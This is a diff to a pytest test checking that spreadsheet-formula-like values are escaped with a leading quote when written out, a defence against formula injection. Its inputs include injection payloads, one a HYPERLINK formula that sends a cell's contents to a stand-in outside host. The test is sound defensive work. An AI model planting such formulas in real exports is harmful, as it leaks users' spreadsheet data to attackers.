@@ -17,7 +17,7 @@ def written(rows):
 
 @pytest.mark.parametrize(
     "text",
-    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"//a.b/\"&A1)", "- msg"],
+    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//a.b/"&A1)', "- msg"],
 )
 def test_a_text_that_is_a_formula_is_quoted(text):
     assert written([["name", "gap"], [text, 1.5]]) == [["name", "gap"], [f"'{text}", "1.5"]]
